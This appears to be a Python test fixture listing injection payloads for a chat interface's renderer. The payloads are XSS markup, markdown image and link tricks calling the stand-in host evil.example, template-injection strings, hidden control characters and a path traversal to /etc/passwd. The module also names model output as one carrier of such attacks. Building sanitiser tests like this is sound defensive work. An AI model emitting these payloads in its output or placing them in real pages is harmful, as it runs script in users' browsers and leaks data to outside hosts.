"""Attacks that a document, a file name or an obedient model may carry.

Each would, if it took effect, ask an outside address (`evil.example`), run
script (set `window.pwned`) or leave the place that text belongs in.
"""

from __future__ import annotations

OUT = "//evil.example/x"
RUN = "window.pwned=1"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src='{OUT}'></script>",
    f"<img src='{OUT}'>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href='{OUT}'/></svg>",
    f"<iframe src='{OUT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{OUT}'></object>",
    f"<embed src='{OUT}'>",
    f"<link rel=stylesheet href='{OUT}'>",
    f"<style>@import url({OUT});</style>",
    f"<style>body{{background:url({OUT})}}</style>",
    f"<div style='background:url({OUT})'>x</div>",
    f"<video src='{OUT}' autoplay></video>",
    f"<audio src='{OUT}' autoplay></audio>",
    f"<video poster='{OUT}'></video>",
    f"<input type=image src='{OUT}'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href='{OUT}/'>",
    f"<form action='{OUT}'><button autofocus>Go</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<a href='{OUT}' ping='{OUT}'>click</a>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><img src=x onerror={RUN}></noscript>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"</span></p></article><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f"` onfocus={RUN} autofocus `",
    "<button data-act='delete-chat' data-chat='x' autofocus>Yes</button>",
    "<a data-act='retry' data-turn='1'>again</a>",
    f"<IMG SRC=X ONERROR={RUN}>",
    f"<im\x00g src=x onerror={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"%3Cimg src=x onerror={RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
]
MARKDOWN = [
    f"![pixel](http:{OUT})",
    f"![pixel][1]\n\n[1]: http:{OUT}",
    f"[click](javascript:{RUN})",
    f"[click](http:{OUT})",
    f"<http:{OUT}>",
    f"http:{OUT}",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{http:{OUT}}}$$",
    "[1] is proved by footnote [2] and [999].",
]
TEMPLATES = [
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{%raw%}{{7*7}}{%endraw%}",
    "<%= 7*7 %>",
    '__i18n__{"__type__": "translation_metadata", "key": "ask"}',
    "⟦ask⟧",
]
HIDDEN = [
    "\u202eevil.example\u202c",
    "\u2066<img src=x onerror=window.pwned=1>\u2069",
    "\ud800<img src=x onerror=window.pwned=1>",
    "\x1b[2J\x1b]0;pwned\x07",
    "../../../../etc/passwd",
]
ATTACKS = [*MARKUP, *MARKDOWN, *TEMPLATES, *HIDDEN]
